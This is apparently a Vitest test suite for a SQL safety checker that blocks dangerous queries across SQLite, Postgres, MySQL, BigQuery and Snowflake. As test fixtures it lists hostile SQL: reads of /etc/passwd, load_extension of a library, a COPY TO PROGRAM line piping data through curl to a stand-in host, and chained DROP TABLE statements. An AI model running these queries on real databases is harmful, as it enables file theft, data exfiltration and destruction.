import { describe, expect, it } from 'vitest';
import { checkSafety } from '../../src/rungs/safety.js';
import type { SafetyPolicy } from '../../src/safety/policy.js';
import type { Dialect } from '../../src/sql/parse.js';
import { isLadderError } from '../../src/errors.js';
import { useGenerousParseBudget } from '../helpers/depth-limit.js';

/** `kind@line:column` for every violation, in position order. */
function violations(sql: string, dialect: Dialect = 'sqlite', policy?: SafetyPolicy): string[] {
  const result = checkSafety({ sql, dialect, ...(policy ? { policy } : {}) });
  expect(result.status).toBe(result.issues.length === 0 ? 'pass' : 'fail');
  return result.issues.map((issue) => `${issue.kind}@${issue.line}:${issue.column}`);
}

describe('checkSafety: fixed rules (sqlite)', () => {
  it.each<[string, string, string[]]>([
    ['plain query', 'SELECT name FROM customers WHERE segment = 1', []],
    ['chained write', 'SELECT 1; DROP TABLE orders', ['multiple_statements@1:11', 'ddl_statement@1:11']],
    ['insert', "INSERT INTO orders VALUES (1)", ['write_statement@1:1']],
    ['update', 'UPDATE orders SET amount = 0', ['write_statement@1:1']],
    ['delete', 'DELETE FROM orders', ['write_statement@1:1']],
    ['replace', 'REPLACE INTO orders VALUES (1)', ['write_statement@1:1']],
    ['data-modifying CTE (not SQLite syntax): fails closed', 'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', ['not_analysed@1:42']],
    ['create table as select', 'CREATE TABLE dump AS SELECT * FROM orders', ['ddl_statement@1:1']],
    ['attach', "ATTACH DATABASE '/tmp/x.db' AS x", ['attach@1:1']],
    ['detach', 'DETACH DATABASE x', ['attach@1:1']],
    ['pragma statement', 'PRAGMA query_only = 0', ['pragma@1:1']],
    ['pragma table function', "SELECT * FROM pragma_table_info('orders')", ['pragma@1:15']],
    ['pragma table without arguments', 'SELECT * FROM pragma_table_list', ['pragma@1:15']],
    ['pragma function in a subquery', "SELECT (SELECT count(*) FROM pragma_database_list)", ['pragma@1:30']],
    ['vacuum', 'VACUUM', ['vacuum@1:1']],
    ['vacuum into', "VACUUM INTO '/tmp/copy.db'", ['vacuum@1:1']],
    ['begin', 'BEGIN', ['transaction@1:1']],
    ['savepoint', 'SAVEPOINT s1', ['transaction@1:1']],
    ['release', 'RELEASE s1', ['transaction@1:1']],
    ['load_extension', "SELECT load_extension('/tmp/evil.so')", ['blocked_function@1:8']],
    ['readfile', "SELECT readfile('/etc/passwd')", ['blocked_function@1:8']],
    ['writefile', "SELECT writefile('/tmp/x', name) FROM customers", ['blocked_function@1:8']],
    ['edit', "SELECT edit('x', 'vi')", ['blocked_function@1:8']],
    ['fts3_tokenizer', "SELECT fts3_tokenizer('simple')", ['blocked_function@1:8']],
    ['unknown function', 'SELECT my_udf(amount) FROM orders', ['unknown_function@1:8']],
    ['function hidden in a nested subquery', 'SELECT * FROM orders WHERE amount > (SELECT max(load_extension(x)) FROM t)', ['blocked_function@1:49']],
    ['json_each is a table function', 'SELECT value FROM json_each(\'[1,2]\')', ['table_function@1:19']],
    ['a table function on the right of IN', "SELECT 1 WHERE 1 IN json_each('[1]')", ['table_function@1:21']],
    ['a pragma function on the right of IN', "SELECT 1 WHERE 'x' IN pragma_compile_options()", ['pragma@1:23']],
    ['sqlite_master', 'SELECT sql FROM sqlite_master', ['system_table@1:17']],
    ['dbstat', 'SELECT * FROM dbstat', ['system_table@1:15']],
    ['unparseable fails closed', 'SELEC x', ['not_analysed@1:1']],
    ['empty text', '', ['not_a_query@1:1']],
  ])('%s', (_name, sql, expected) => {
    expect(violations(sql)).toEqual(expected);
  });
});

describe('checkSafety: fixed rules (postgres, mysql)', () => {
  it.each<[string, string, Dialect, string[]]>([
    ['SELECT INTO', 'SELECT * INTO dump FROM orders', 'postgres', ['select_into@1:10']],
    ['FOR UPDATE', 'SELECT * FROM orders FOR UPDATE', 'postgres', ['row_lock@1:22']],
    ['SET ROLE', 'SET ROLE admin', 'postgres', ['session_change@1:1']],
    ['SET', 'SET search_path = hr', 'postgres', ['session_change@1:1']],
    ['GRANT', 'GRANT SELECT ON orders TO public', 'postgres', ['privilege_statement@1:1']],
    ['CALL (and its unknown procedure)', 'CALL refresh()', 'postgres', ['procedure_call@1:1', 'unknown_function@1:6']],
    ['data-modifying CTE', 'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'postgres', ['write_statement@1:12']],
    ['data-modifying CTE (UPDATE)', 'WITH u AS (UPDATE orders SET amount = 0 RETURNING *) SELECT count(*) FROM u', 'postgres', ['write_statement@1:12']],
    ['EXECUTE', 'EXECUTE stmt', 'postgres', ['procedure_call@1:1']],
    ['COPY to a server file (read from its tokens)', "COPY orders TO '/tmp/x'", 'postgres', ['copy@1:13']],
    ['COPY … PROGRAM', "COPY (SELECT 1) TO PROGRAM 'curl -d @- evil'", 'postgres', ['copy@1:20']],
    ['NOTIFY', "NOTIFY jobs, 'x'", 'postgres', ['notify@1:1']],
    ['LISTEN', 'LISTEN jobs', 'postgres', ['notify@1:1']],
    ['pg_notify', "SELECT pg_notify('jobs', 'x')", 'postgres', ['blocked_function@1:8']],
    ['SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', 'postgres', ['session_change@1:1']],
    ['SET ROLE', 'SET ROLE postgres', 'postgres', ['session_change@1:1']],
    ['PREPARE TRANSACTION', "PREPARE TRANSACTION 'x'", 'postgres', ['transaction@1:1']],
    ['COMMIT PREPARED', "COMMIT PREPARED 'x'", 'postgres', ['transaction@1:1']],
    ['CREATE EXTENSION', 'CREATE EXTENSION dblink', 'postgres', ['extension@1:1']],
    ['LOAD', "LOAD 'plpython3u'", 'postgres', ['extension@1:1']],
    ['ALTER SYSTEM', "ALTER SYSTEM SET work_mem = '4GB'", 'postgres', ['server_admin@1:1']],
    ['FOR NO KEY UPDATE', 'SELECT * FROM t FOR NO KEY UPDATE', 'postgres', ['row_lock@1:17']],
    ['FOR KEY SHARE', 'SELECT * FROM t FOR KEY SHARE', 'postgres', ['row_lock@1:17']],
    ['advisory lock', 'SELECT pg_advisory_lock(42)', 'postgres', ['blocked_function@1:8']],
    ['advisory lock (try, transaction)', 'SELECT pg_try_advisory_xact_lock(42)', 'postgres', ['blocked_function@1:8']],
    ['pg_terminate_backend', 'SELECT pg_terminate_backend(1234)', 'postgres', ['blocked_function@1:8']],
    ['pg_ls_dir', "SELECT pg_ls_dir('.')", 'postgres', ['blocked_function@1:8']],
    ['lo_export', "SELECT lo_export(1, '/tmp/x')", 'postgres', ['blocked_function@1:8']],
    ['dblink_connect_u', "SELECT dblink_connect_u('host=x')", 'postgres', ['blocked_function@1:8']],
    ['query_to_xml runs SQL from a string', "SELECT query_to_xml('SELECT * FROM users', true, true, '')", 'postgres', ['blocked_function@1:8']],
    ['pg_stat_activity (system view)', 'SELECT query FROM pg_stat_activity', 'postgres', ['system_table@1:19']],
    ['information_schema', 'SELECT * FROM information_schema.columns', 'postgres', ['system_table@1:15']],
    ['a blocked function in a text the grammar cannot read', "SELECT pg_sleep(5), percentile_cont(0.5) WITHIN GROUP (ORDER BY x) OVER () FROM t", 'postgres', ['blocked_function@1:8']],
    ['pg_sleep', 'SELECT pg_sleep(600)', 'postgres', ['blocked_function@1:8']],
    ['set_config', "SELECT set_config('role', 'admin', false)", 'postgres', ['blocked_function@1:8']],
    ['pg_read_file', "SELECT pg_read_file('/etc/passwd')", 'postgres', ['blocked_function@1:8']],
    ['nextval', "SELECT nextval('s')", 'postgres', ['blocked_function@1:8']],
    ['lo_import', "SELECT lo_import('/etc/passwd')", 'postgres', ['blocked_function@1:8']],
    ['dblink_exec', "SELECT dblink_exec('db', 'DROP TABLE x')", 'postgres', ['blocked_function@1:8']],
    ['generate_series in FROM', 'SELECT * FROM generate_series(1, 10)', 'postgres', ['table_function@1:15']],
    ['dblink in FROM', "SELECT * FROM dblink('db', 'SELECT 1') AS t(a int)", 'postgres', ['blocked_function@1:15']],
    ['qualified pg_catalog function is fine', 'SELECT pg_catalog.upper(name) FROM customers', 'postgres', []],
    ['INTO OUTFILE', "SELECT * FROM orders INTO OUTFILE '/tmp/x'", 'mysql', ['select_into@1:22']],
    ['LOCK IN SHARE MODE', 'SELECT * FROM orders LOCK IN SHARE MODE', 'mysql', ['row_lock@1:22']],
    ['sleep', 'SELECT sleep(10)', 'mysql', ['blocked_function@1:8']],
    ['EXPORT DATA', "EXPORT DATA OPTIONS (uri = 'gs://b/x*.csv', format = 'CSV') AS SELECT * FROM t", 'bigquery', ['data_export@1:1']],
    ['EXECUTE IMMEDIATE', "EXECUTE IMMEDIATE 'DROP TABLE t'", 'bigquery', ['procedure_call@1:1']],
    ['FOR SHARE', 'SELECT * FROM t FOR SHARE', 'postgres', ['row_lock@1:17']],
    ['TRUNCATE', 'TRUNCATE t', 'postgres', ['ddl_statement@1:1']],
    ['START TRANSACTION', 'START TRANSACTION', 'postgres', ['transaction@1:1']],
    ['DO block', 'DO $$ BEGIN END $$', 'postgres', ['procedure_call@1:1']],
    ['RESET ROLE', 'RESET ROLE', 'postgres', ['session_change@1:1']],
    ['PREPARE', 'PREPARE p AS SELECT 1', 'postgres', ['procedure_call@1:1']],
    ['REVOKE', 'REVOKE SELECT ON t FROM u', 'postgres', ['privilege_statement@1:1']],
    ['LOCK TABLE (read from its tokens)', 'LOCK TABLE t', 'postgres', ['table_lock@1:1']],
    ['SELECT INTO a variable', 'SELECT a INTO @x FROM t', 'mysql', ['select_into@1:10']],
    ['EXPLAIN', 'EXPLAIN SELECT 1', 'sqlite', ['statement_not_allowed@1:1']],
    ['REINDEX', 'REINDEX', 'sqlite', ['ddl_statement@1:1']],
    ['ANALYZE', 'ANALYZE', 'sqlite', ['ddl_statement@1:1']],
  ])('%s (%s)', (_name, sql, dialect, expected) => {
    expect(violations(sql, dialect)).toEqual(expected);
  });
});

describe('checkSafety: benign look-alikes pass', () => {
  it.each<[string, string, Dialect]>([
    ['keyword inside a string', "SELECT 'DROP TABLE orders; PRAGMA x' AS s FROM orders", 'sqlite'],
    ['keyword inside a line comment', 'SELECT amount FROM orders -- ; DROP TABLE orders', 'sqlite'],
    ['keyword inside a block comment', 'SELECT /* DELETE FROM orders */ amount FROM orders', 'sqlite'],
    ['bracket identifier named like a keyword', 'SELECT [delete], [update] FROM [pragma]', 'sqlite'],
    ['double-quoted identifier named like a function', 'SELECT "load_extension" FROM "attach"', 'sqlite'],
    ['column named into', 'SELECT "into" FROM orders', 'postgres'],
    ['string with INTO', "SELECT 'SELECT * INTO x' FROM orders", 'postgres'],
    ['window, date and aggregate built-ins', "SELECT strftime('%Y', d), rank() OVER (ORDER BY amount), group_concat(name) FROM orders", 'sqlite'],
    ['trailing semicolon', 'SELECT 1;', 'sqlite'],
    ['a statement-looking comment after the semicolon', "SELECT * FROM t WHERE x = 'a'; -- ; DROP TABLE t", 'sqlite'],
    ['values', 'VALUES (1), (2)', 'sqlite'],
  ])('%s', (_name, sql, dialect) => {
    expect(violations(sql, dialect)).toEqual([]);
  });
});

describe('checkSafety: LIMIT policy', () => {
  const policy = { maxLimit: 1000 };
  it.each<[string, string, string[]]>([
    ['literal within range', 'SELECT * FROM orders LIMIT 10', []],
    ['limit at the maximum', 'SELECT * FROM orders LIMIT 1000', []],
    ['limit with offset', 'SELECT * FROM orders LIMIT 10 OFFSET 5', []],
    ['missing', 'SELECT * FROM orders', ['limit_missing@1:1']],
    ['LIMIT ALL (not SQLite syntax): fails closed', 'SELECT * FROM orders LIMIT ALL', ['not_analysed@1:28']],
    ['LIMIT -1', 'SELECT * FROM orders LIMIT -1', ['limit_invalid@1:28']],
    ['LIMIT 1e9', 'SELECT * FROM orders LIMIT 1e9', ['limit_invalid@1:28']],
    ['LIMIT 10+100000', 'SELECT * FROM orders LIMIT 10+100000', ['limit_invalid@1:28']],
    ['LIMIT 5, 100000', 'SELECT * FROM orders LIMIT 5, 100000', ['limit_out_of_range@1:31']],
    ['LIMIT 0', 'SELECT * FROM orders LIMIT 0', ['limit_out_of_range@1:28']],
    ['LIMIT too large', 'SELECT * FROM orders LIMIT 100000', ['limit_out_of_range@1:28']],
    ['LIMIT subquery', 'SELECT * FROM orders LIMIT (SELECT 10)', ['limit_invalid@1:28']],
    ['LIMIT in a comment', 'SELECT * FROM orders -- LIMIT 10', ['limit_missing@1:1']],
    ['LIMIT in a block comment', 'SELECT * FROM orders /* LIMIT 10 */', ['limit_missing@1:1']],
    ['LIMIT inside a string', "SELECT 'LIMIT 10' FROM orders", ['limit_missing@1:1']],
    ['LIMIT only in a subquery', 'SELECT * FROM (SELECT * FROM orders LIMIT 10)', ['limit_missing@1:1']],
    ['compound with a final LIMIT', 'SELECT a FROM t UNION SELECT b FROM u LIMIT 10', []],
    ['compound whose LIMIT is in a parenthesised branch', 'SELECT a FROM t UNION (SELECT b FROM u LIMIT 10)', ['limit_missing@1:1']],
  ])('%s', (_name, sql, expected) => {
    expect(violations(sql, 'sqlite', policy)).toEqual(expected);
  });

  it.each<[string, string, string[]]>([
    ['LIMIT ALL', 'SELECT * FROM orders LIMIT ALL', ['limit_invalid@1:28']],
    ['FETCH FIRST within range', 'SELECT * FROM orders FETCH FIRST 10 ROWS ONLY', []],
    ['FETCH FIRST too many', 'SELECT * FROM orders FETCH FIRST 100000 ROWS ONLY', ['limit_out_of_range@1:34']],
  ])('postgres: %s', (_name, sql, expected) => {
    expect(violations(sql, 'postgres', policy)).toEqual(expected);
  });
});

describe('checkSafety: allowed-tables policy in every scope', () => {
  const policy = { allowedTables: ['orders', 'customers'] };
  it.each<[string, string, Dialect, string[]]>([
    ['allowed tables', 'SELECT * FROM orders JOIN customers USING (customer_id)', 'sqlite', []],
    ['forbidden table', 'SELECT * FROM salaries', 'sqlite', ['table_not_allowed@1:15']],
    ['UNION branch', 'SELECT amount FROM orders UNION SELECT amount FROM salaries', 'sqlite', ['table_not_allowed@1:52']],
    ['scalar subquery', 'SELECT (SELECT max(amount) FROM salaries) FROM orders', 'sqlite', ['table_not_allowed@1:33']],
    ['EXISTS', 'SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM salaries)', 'sqlite', ['table_not_allowed@1:50']],
    ['IN subquery', 'SELECT 1 FROM orders WHERE amount IN (SELECT amount FROM salaries)', 'sqlite', ['table_not_allowed@1:58']],
    ['SQLite IN table-name', 'SELECT 1 FROM orders WHERE amount IN salaries', 'sqlite', ['table_not_allowed@1:38']],
    ['SQLite NOT IN schema.table-name', 'SELECT 1 FROM orders WHERE amount NOT IN main.salaries', 'sqlite', ['table_not_allowed@1:42']],
    ['CTE body', 'WITH s AS (SELECT * FROM salaries) SELECT * FROM s', 'sqlite', ['table_not_allowed@1:26']],
    ['CTE shadowing an allowed name hides a forbidden body', 'WITH orders AS (SELECT * FROM salaries) SELECT * FROM orders', 'sqlite', ['table_not_allowed@1:31']],
    ['CTE shadowing a forbidden name (postgres: body reads the real table)', 'WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries', 'postgres', ['table_not_allowed@1:33']],
    ['CTE shadowing a forbidden name (sqlite: self-reference counts as the table)', 'WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries', 'sqlite', ['table_not_allowed@1:33']],
    ['derived table', 'SELECT * FROM (SELECT * FROM salaries) AS o', 'sqlite', ['table_not_allowed@1:30']],
    ['a recursive CTE over allowed tables', 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r JOIN orders ON order_id = n', 'sqlite', []],
    ['quoted variant', 'SELECT * FROM "SALARIES"', 'sqlite', ['table_not_allowed@1:15']],
    ['quoted allowed table', 'SELECT * FROM "Orders", [CUSTOMERS]', 'sqlite', []],
    ['case variant', 'SELECT * FROM Salaries', 'sqlite', ['table_not_allowed@1:15']],
    ['main-qualified allowed table', 'SELECT * FROM main.orders', 'sqlite', []],
    ['schema-qualified look-alike', 'SELECT * FROM hr.orders', 'sqlite', ['table_not_allowed@1:15']],
    ['postgres quoted case differs', 'SELECT * FROM "Orders"', 'postgres', ['table_not_allowed@1:15']],
  ])('%s (%s)', (_name, sql, dialect, expected) => {
    expect(violations(sql, dialect, policy)).toEqual(expected);
  });
});

describe('checkSafety: options', () => {
  it.each<[string, unknown, string]>([
    ['maxLimit 0', { maxLimit: 0 }, 'policy.maxLimit must be an integer ≥ 1 (rows); received a number (0)'],
    ['maxLimit string', { maxLimit: '10' }, 'policy.maxLimit must be an integer ≥ 1 (rows); received a string ("10")'],
    ['misspelt option', { max_limit: 10 }, 'policy.max_limit is not an option (did you mean policy.maxLimit?); known options: maxLimit, allowedTables, allowedFunctions, allowTableFunctions, allowSystemTables'],
    ['allowedTables not a list', { allowedTables: 'orders' }, 'policy.allowedTables must be an array of non-empty names; received a string ("orders")'],
  ])('%s', (_name, policy, message) => {
    let caught: unknown;
    try {
      checkSafety({ sql: 'SELECT 1', dialect: 'sqlite', policy: policy as SafetyPolicy });
    } catch (error) {
      caught = error;
    }
    expect(isLadderError(caught, 'invalid_option')).toBe(true);
    expect((caught as Error).message).toBe(message);
  });

  it('allowTableFunctions lists vetted table functions; pragma_* stays blocked', () => {
    const policy = { allowTableFunctions: ['json_each'] };
    expect(violations("SELECT value FROM json_each('[1]')", 'sqlite', policy)).toEqual([]);
    expect(violations("SELECT * FROM pragma_table_info('t')", 'sqlite', { allowTableFunctions: true })).toEqual(['pragma@1:15']);
  });

  it('allowedFunctions admits a vetted UDF', () => {
    expect(violations('SELECT my_udf(1)', 'sqlite', { allowedFunctions: ['my_udf'] })).toEqual([]);
  });

  it('an unreadable text the engine accepted passes as not analysed only without a policy', () => {
    // sql-parser-cst rejects an empty IN list, which SQLite accepts.
    const unreadable = 'SELECT * FROM t WHERE a IN ()';
    const accepted = checkSafety({ sql: unreadable, dialect: 'sqlite', engineAccepted: true });
    expect([accepted.status, accepted.details.analysed]).toEqual(['pass', false]);
    const withPolicy = checkSafety({ sql: unreadable, dialect: 'sqlite', engineAccepted: true, policy: { maxLimit: 10 } });
    expect(withPolicy.issues.map((issue) => issue.kind)).toEqual(['not_analysed']);
  });
});

describe('checkSafety: snowflake (node-sql-parser tree)', () => {
  it.each<[string, string, SafetyPolicy | undefined, string[]]>([
    ['plain query', 'SELECT a, upper(b) FROM db.sch.t WHERE a > 1', undefined, []],
    ['two statements', 'SELECT 1; SELECT 2', undefined, ['multiple_statements@1:1']],
    ['unknown function', 'SELECT my_udf(a) FROM t', undefined, ['unknown_function@1:8']],
    ['system function', 'SELECT system$wait(10)', undefined, ['blocked_function@1:8']],
    ['DELETE does not parse: fails closed', 'DELETE FROM t', undefined, ['not_analysed@1:14']],
    ['allowed table', 'SELECT a FROM orders', { allowedTables: ['orders'] }, []],
    ['forbidden table in a subquery', 'SELECT a FROM orders WHERE a IN (SELECT b FROM salaries)', { allowedTables: ['orders'] }, ['table_not_allowed@1:48']],
    ['CTE name is not a table; its body is checked', 'WITH c AS (SELECT * FROM salaries) SELECT * FROM c', { allowedTables: ['orders'] }, ['table_not_allowed@1:26']],
    ['LIMIT within range', 'SELECT a FROM orders LIMIT 10', { maxLimit: 100 }, []],
    ['LIMIT missing', 'SELECT a FROM orders', { maxLimit: 100 }, ['limit_missing@1:1']],
    ['LIMIT too large', 'SELECT a FROM orders LIMIT 1000', { maxLimit: 100 }, ['limit_out_of_range@1:22']],
    ['LIMIT 1e9', 'SELECT a FROM orders LIMIT 1e9', { maxLimit: 100 }, ['limit_invalid@1:22']],
    ['LIMIT in a comment', 'SELECT a FROM orders -- LIMIT 10', { maxLimit: 100 }, ['limit_missing@1:1']],
  ])('%s', (_name, sql, policy, expected) => {
    expect(violations(sql, 'snowflake', policy)).toEqual(expected);
  });
});

describe('checkSafety: budgets', () => {
  // The depth limit decides, not the 2 s parse budget a loaded machine can run out of first.
  useGenerousParseBudget();

  const chain = `SELECT 1 FROM orders WHERE ${Array.from({ length: 10_000 }, () => '1').join(' OR ')}`;

  it('fails closed, within budget, on a 10 000-term chain (it threw RangeError)', () => {
    const result = checkSafety({ sql: chain, dialect: 'sqlite' });
    expect(result.status).toBe('fail');
    expect(result.issues).toEqual([{ kind: 'not_analysed', message: 'cannot be analysed, failing closed: not analysed within budget: the parse tree is more than 1100 levels deep', line: 1, column: 1 }]);
  });

  it('passes by engine when SQLite prepared it and no policy is set; fails closed under a policy', () => {
    expect(checkSafety({ sql: chain, dialect: 'sqlite', engineAccepted: true }).status).toBe('pass');
    expect(checkSafety({ sql: chain, dialect: 'sqlite', engineAccepted: true, policy: { maxLimit: 10 } }).issues.map((issue) => issue.kind)).toEqual(['not_analysed']);
  });

  it('fails closed on a 10 MB statement without reading it', () => {
    const result = checkSafety({ sql: `SELECT 1 /*${'x'.repeat(10_000_000)}*/`, dialect: 'sqlite' });
    expect(result.issues.map((issue) => issue.message)).toEqual(['cannot be analysed, failing closed: not analysed within budget: the SQL text is 10000013 characters; the analysis reads at most 100000']);
  });
});
